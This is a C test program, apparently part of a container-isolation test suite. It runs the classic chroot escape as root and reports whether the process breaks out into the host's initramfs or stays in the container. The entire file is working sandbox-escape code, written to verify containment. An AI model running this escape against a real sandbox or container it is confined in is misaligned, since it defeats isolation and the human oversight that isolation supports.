/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The classic chroot escape, run as root with CAP_SYS_CHROOT inside a VM
 * container (L1 test vmct-escape): keep a directory fd on "/", chroot into
 * a subdirectory, fchdir back out of it, walk ".." up, chroot there.
 * Prints ESCAPED when that lands in the agent's initramfs (/newroot and
 * /modules are there), CONTAINED when it lands on the container's root
 * (/etc/which-image of the test image), else OTHER.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fd < 0 || (mkdir("/.escape", 0700) < 0 && access("/.escape", F_OK) < 0)) {
		perror("escape: set-up");
		return 2;
	}
	if (chroot("/.escape") < 0 || fchdir(fd) < 0) {
		perror("escape: chroot into /.escape");
		return 2;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0) {
			perror("escape: chdir ..");
			return 2;
		}
	if (chroot(".") < 0) {
		perror("escape: chroot .");
		return 2;
	}
	if (!access("/newroot", F_OK) || !access("/modules", F_OK))
		puts("ESCAPED");
	else if (!access("/etc/which-image", F_OK))
		puts("CONTAINED");
	else
		puts("OTHER");
	return 0;
}
